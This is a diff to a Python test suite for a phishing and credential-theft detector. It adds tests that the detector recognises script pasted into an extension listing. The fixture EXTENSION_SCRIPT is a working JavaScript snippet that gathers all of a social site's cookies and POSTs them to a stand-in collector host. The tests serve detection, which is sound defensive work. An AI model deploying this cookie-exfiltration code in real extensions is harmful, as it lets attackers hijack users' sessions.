@@ -704,3 +704,34 @@ def test_calls_to_a_networks_own_graph_api_are_not_exfiltration():
 def test_login_pages_dressed_as_a_big_service(html, url, fired):
     # Kits dress their forms as any large service, not only social networks.
     assert f(html, url=url)["credential.social_login_clone"] == fired
+
+
+EXTENSION_SCRIPT = """$("#go").click(function () {
+  chrome.cookies.getAll({ url: "https://www.example-social.com" }, function (cookies) {
+    let names = [];
+    cookies.forEach(function (c) { names.push(c.name + "=" + c.value); });
+    $.ajax({ url: "https://collector.example.net/in", type: "POST", data: { c: names } });
+  });
+});"""
+
+
+def test_extension_script_sent_as_listing_text_is_read_as_script():
+    from detector.extract.features import extract
+    from detector.records import Listing
+
+    snap = Snapshot(kind="extension_listing", listing=Listing(description=EXTENSION_SCRIPT))
+    feats = extract(snap).features
+    assert feats["credential.reads_document_cookie"] == 1
+    assert feats["credential.js_exfil"] == 1
+    # The same API read without sending anything anywhere is an ordinary cookie manager.
+    local = EXTENSION_SCRIPT.replace("$.ajax(", "console.log(")
+    snap = Snapshot(kind="extension_listing", listing=Listing(description=local))
+    assert extract(snap).features["credential.reads_document_cookie"] == 0
+
+
+def test_prose_about_cookies_is_not_script():
+    from detector.extract.base import script_like
+
+    prose = "Our extension lets you clear cookies when a tab closes. Let the window close."
+    assert not script_like(prose)
+    assert script_like(EXTENSION_SCRIPT)
